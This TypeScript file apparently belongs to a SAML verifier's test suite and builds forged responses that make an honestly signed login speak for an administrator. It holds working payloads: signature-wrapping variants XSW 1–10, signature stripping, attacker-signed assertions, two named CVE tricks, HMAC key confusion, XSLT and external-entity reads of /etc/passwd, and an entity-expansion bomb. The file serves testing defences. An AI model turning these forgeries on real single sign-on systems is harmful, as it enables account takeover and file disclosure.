import { createHmac } from "node:crypto";
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";
import { assertionXml, type Keys, type Provider, type ResponseFields, responseXml, signed } from "./identity-provider";

/**
 * Forgeries of a response: each begins with one that Mallory got honestly, and makes it speak of the administrator.
 * The classes of signature wrapping (XSW) are those of "On Breaking SAML: Be Whoever You Want to Be", with variants.
 */

const ds = "http://www.w3.org/2000/09/xmldsig#";

interface Stage {
  provider: Provider;
  attacker: Keys;
  /** The fields of the honest response; the forged one names `victim`. */
  fields: ResponseFields;
  victim: string;
}

type Forge = (stage: Stage) => string;

const parse = (xml: string) => new DOMParser().parseFromString(xml, "text/xml");
const text = (document: Document) => new XMLSerializer().serializeToString(document);
const first = (document: Document | Element, name: string) => document.getElementsByTagNameNS("*", name)[0]!;

const honest = ({ provider, fields }: Stage) =>
  responseXml(provider, signed(assertionXml(provider, fields), "Assertion", provider.keys), fields);

/** The same with the whole response signed as well. */
const doublySigned = (stage: Stage) => signed(honest(stage), "Response", stage.provider.keys);

/** Only the whole response signed. */
const wholeSigned = ({ provider, fields }: Stage) =>
  signed(responseXml(provider, assertionXml(provider, fields), fields), "Response", provider.keys);

/** The assertion that Mallory wants to be read. */
const evil = ({ provider, fields, victim }: Stage, id = "_evil") =>
  assertionXml(provider, { ...fields, name_id: victim, assertion_id: id });

const evilIn = (document: Document, stage: Stage, id?: string) =>
  document.importNode(parse(evil(stage, id)).documentElement, true);

/** Works on the honest response as a tree. */
const rebuilt =
  (work: (document: Document, stage: Stage) => void, from: Forge = honest): Forge =>
  (stage) => {
    const document = parse(from(stage));
    work(document, stage);
    return text(document);
  };

const replaced =
  (work: (xml: string, stage: Stage) => string, from: Forge = honest): Forge =>
  (stage) =>
    work(from(stage), stage);

const unsigned = (element: Element) => {
  const signature = Array.from(element.childNodes).find((node) => (node as Element).localName === "Signature");
  if (signature) element.removeChild(signature);
  return signature as Element;
};

/** The evil response that carries the honest one somewhere in its signature. */
const wrappedResponse = (place: "in signature" | "beside", from: Forge = doublySigned): Forge =>
  rebuilt((document, stage) => {
    const root = document.documentElement;
    const original = root.cloneNode(true) as Element;
    unsigned(original);
    const signature = first(root, "Signature");
    root.setAttribute("ID", "_evil_response");
    const assertion = first(root, "Assertion");
    assertion.parentNode!.replaceChild(evilIn(document, stage), assertion);
    if (place === "in signature") signature.appendChild(original);
    else root.appendChild(original);
  }, from);

/** The evil assertion takes the honest one's signature along, and the honest one goes elsewhere. */
const withSignatureOf = (
  place: (parts: { bad: Element; good: Element; signature: Element; root: Element }) => void,
): Forge =>
  rebuilt((document, stage) => {
    const root = document.documentElement;
    const good = first(root, "Assertion");
    const signature = unsigned(good);
    const bad = evilIn(document, stage) as Element;
    bad.insertBefore(signature, bad.childNodes[1]!);
    root.replaceChild(bad, good);
    place({ bad, good, signature, root });
  });

const extensions = (document: Document) =>
  document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");

export const forgeries: Record<string, Forge> = {
  "XSW 1: the signed response inside the signature of the forged one": wrappedResponse("in signature"),
  "XSW 2: the signed response beside the forged one's assertion": wrappedResponse("beside"),
  "XSW 3: the forged assertion before the signed one": rebuilt((document, stage) => {
    document.documentElement.insertBefore(evilIn(document, stage), first(document, "Assertion"));
  }),
  "XSW 4: the signed assertion inside the forged one": rebuilt((document, stage) => {
    const good = first(document, "Assertion");
    const bad = evilIn(document, stage);
    document.documentElement.replaceChild(bad, good);
    bad.appendChild(good);
  }),
  "XSW 5: the forged assertion with the signature, the signed one after it": withSignatureOf(({ good, root }) => {
    root.appendChild(good);
  }),
  "XSW 6: the signed assertion inside the signature that the forged one carries": withSignatureOf(
    ({ good, signature }) => {
      signature.appendChild(good);
    },
  ),
  "XSW 7: the forged assertion in extensions": rebuilt((document, stage) => {
    const box = extensions(document);
    box.appendChild(evilIn(document, stage));
    document.documentElement.insertBefore(box, first(document, "Assertion"));
  }),
  "XSW 8: the signed assertion in an object of the forged one's signature": withSignatureOf(({ good, signature }) => {
    const object = good.ownerDocument.createElementNS(ds, "ds:Object");
    object.appendChild(good);
    signature.appendChild(object);
  }),
  "XSW 9: the signed assertion as advice of the forged one": withSignatureOf(({ bad, good }) => {
    const advice = good.ownerDocument.createElementNS("urn:oasis:names:tc:SAML:2.0:assertion", "saml:Advice");
    advice.appendChild(good);
    bad.appendChild(advice);
  }),
  "XSW 10: the forged assertion of the same ID first": rebuilt((document, stage) => {
    const good = first(document, "Assertion");
    document.documentElement.insertBefore(evilIn(document, stage, good.getAttribute("ID")!), good);
  }),
  "the forged assertion of the same ID last": rebuilt((document, stage) => {
    document.documentElement.appendChild(evilIn(document, stage, first(document, "Assertion").getAttribute("ID")!));
  }),
  "the signed assertion in extensions, the forged one where it was": rebuilt((document, stage) => {
    const good = first(document, "Assertion");
    const box = extensions(document);
    document.documentElement.replaceChild(evilIn(document, stage), good);
    box.appendChild(good);
    document.documentElement.insertBefore(box, first(document, "Status"));
  }),
  "the same ID written as Id": rebuilt((document, stage) => {
    const good = first(document, "Assertion");
    const bad = evilIn(document, stage) as Element;
    bad.setAttribute("Id", good.getAttribute("ID")!);
    document.documentElement.insertBefore(bad, good);
  }),
  "no signature at all": ({ provider, fields, victim }) =>
    responseXml(provider, assertionXml(provider, { ...fields, name_id: victim }), fields),
  "the signature taken off and the name changed": rebuilt((document, { victim }) => {
    unsigned(first(document, "Assertion"));
    first(document, "NameID").textContent = victim;
  }),
  "the name changed after signing": rebuilt((document, { victim }) => {
    first(document, "NameID").textContent = victim;
  }),
  "signed by the attacker, who shows his certificate": (stage) =>
    responseXml(stage.provider, signed(evil(stage), "Assertion", stage.attacker), stage.fields),
  "signed by the attacker, who shows the provider's certificate": (stage) =>
    responseXml(
      stage.provider,
      signed(evil(stage), "Assertion", { ...stage.attacker, shown: stage.provider.keys.certificate }),
      stage.fields,
    ),
  "the whole response signed by the attacker": (stage) =>
    signed(responseXml(stage.provider, evil(stage), stage.fields), "Response", stage.attacker),
  "a comment in the DigestValue (CVE-2025-29775)": (stage) => {
    const other = signed(evil(stage, "_same"), "Assertion", stage.attacker);
    const digest = /DigestValue>([^<]+)</.exec(other)![1]!;
    const good = signed(
      assertionXml(stage.provider, { ...stage.fields, assertion_id: "_same" }),
      "Assertion",
      stage.provider.keys,
    );
    const forged = good
      .replace(/<ds:DigestValue>/, `<ds:DigestValue><!--${digest}-->`)
      .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${stage.victim}`);
    return responseXml(stage.provider, forged, stage.fields);
  },
  "two SignedInfo (CVE-2025-29774)": (stage) => {
    const other = signed(evil(stage, "_same"), "Assertion", stage.attacker);
    const info = /<ds:SignedInfo>.*?<\/ds:SignedInfo>/s.exec(other)![0];
    const good = signed(
      assertionXml(stage.provider, { ...stage.fields, assertion_id: "_same" }),
      "Assertion",
      stage.provider.keys,
    );
    const forged = good
      .replace("<ds:SignedInfo>", `${info}<ds:SignedInfo>`)
      .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${stage.victim}`);
    return responseXml(stage.provider, forged, stage.fields);
  },
  "an HMAC whose key is the public certificate": (stage) => {
    const good = signed(evil(stage), "Assertion", stage.attacker);
    const hmac = good.replace("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", `${ds}hmac-sha1`);
    const info = /<ds:SignedInfo>.*?<\/ds:SignedInfo>/s
      .exec(hmac)![0]
      .replace("<ds:SignedInfo>", `<ds:SignedInfo xmlns:ds="${ds}">`);
    const value = createHmac("sha1", stage.provider.keys.certificate).update(info).digest("base64");
    return responseXml(
      stage.provider,
      hmac.replace(/<ds:SignatureValue>[^<]*/, `<ds:SignatureValue>${value}`),
      stage.fields,
    );
  },
  "a transform by XSLT": replaced((xml, { victim }) =>
    xml
      .replace(
        "<ds:Transforms>",
        `<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:value-of select="document('file:///etc/passwd')"/></xsl:template></xsl:stylesheet></ds:Transform>`,
      )
      .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`),
  ),
  "an external entity": replaced(
    (xml, { victim }) =>
      `<!DOCTYPE r [<!ENTITY who SYSTEM "file:///etc/passwd"><!ENTITY name "${victim}">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&name;")}`,
  ),
  "a bomb of entities": replaced((xml) => {
    const layers = Array.from({ length: 12 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join("");
    return `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "boom">${layers}]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, "$1&e12;")}`;
  }),
  "a comment that would cut the name off": ({ provider, fields, victim }) =>
    responseXml(
      provider,
      signed(
        assertionXml(provider, { ...fields, name_id: `${victim}<!-- -->.mallory.example` }),
        "Assertion",
        provider.keys,
      ),
      fields,
    ),
  "a signature of the provider over something else": (stage) => {
    const about = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_about"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">x</saml:Issuer></md:EntityDescriptor>`;
    const good = parse(signed(about, "EntityDescriptor", stage.provider.keys));
    const document = parse(responseXml(stage.provider, evil(stage), stage.fields));
    const assertion = first(document, "Assertion");
    const descriptor = document.importNode(good.documentElement, true);
    const signature = unsigned(descriptor);
    assertion.insertBefore(signature, assertion.childNodes[1]!);
    signature.appendChild(descriptor);
    return text(document);
  },
  "signed as a whole: another assertion in its place": rebuilt((document, stage) => {
    document.documentElement.replaceChild(evilIn(document, stage), first(document, "Assertion"));
  }, wholeSigned),
  "signed as a whole: another assertion in front": rebuilt((document, stage) => {
    document.documentElement.insertBefore(evilIn(document, stage), first(document, "Assertion"));
  }, wholeSigned),
  "signed as a whole: another assertion under the signed one's ID": rebuilt((document, stage) => {
    const good = first(document, "Assertion");
    document.documentElement.replaceChild(evilIn(document, stage, good.getAttribute("ID")!), good);
  }, wholeSigned),
  "signed as a whole: the name changed": rebuilt((document, { victim }) => {
    first(document, "NameID").textContent = victim;
  }, wholeSigned),
  "signed as a whole: the signature taken off": rebuilt((document, { victim }) => {
    unsigned(document.documentElement);
    first(document, "NameID").textContent = victim;
  }, wholeSigned),
  "signed as a whole: the signature of the response on a forged assertion": rebuilt((document, stage) => {
    const signature = unsigned(document.documentElement);
    const bad = evilIn(document, stage) as Element;
    bad.insertBefore(signature, bad.childNodes[1]!);
    document.documentElement.replaceChild(bad, first(document, "Assertion"));
  }, wholeSigned),
  "signed as a whole: the signed response inside the signature of the forged one": wrappedResponse(
    "in signature",
    wholeSigned,
  ),
  "signed as a whole: the signed response beside the forged one's assertion": wrappedResponse("beside", wholeSigned),
  "signed as a whole: the signed response in an object of the forged one's signature": rebuilt((document, stage) => {
    const root = document.documentElement;
    const original = root.cloneNode(true) as Element;
    unsigned(original);
    root.setAttribute("ID", "_evil_response");
    root.replaceChild(evilIn(document, stage), first(document, "Assertion"));
    const object = document.createElementNS(ds, "ds:Object");
    object.appendChild(original);
    first(root, "Signature").appendChild(object);
  }, wholeSigned),
  "signed as a whole: the signed response in extensions of the forged one, with its signature": rebuilt(
    (document, stage) => {
      const root = document.documentElement;
      const original = root.cloneNode(true) as Element;
      unsigned(root);
      root.setAttribute("ID", "_evil_response");
      root.replaceChild(evilIn(document, stage), first(document, "Assertion"));
      const box = extensions(document);
      box.appendChild(original);
      root.insertBefore(box, first(document, "Status"));
    },
    wholeSigned,
  ),
  "signed as a whole by the attacker, who shows the provider's certificate": (stage) =>
    signed(responseXml(stage.provider, evil(stage), stage.fields), "Response", {
      ...stage.attacker,
      shown: stage.provider.keys.certificate,
    }),
};
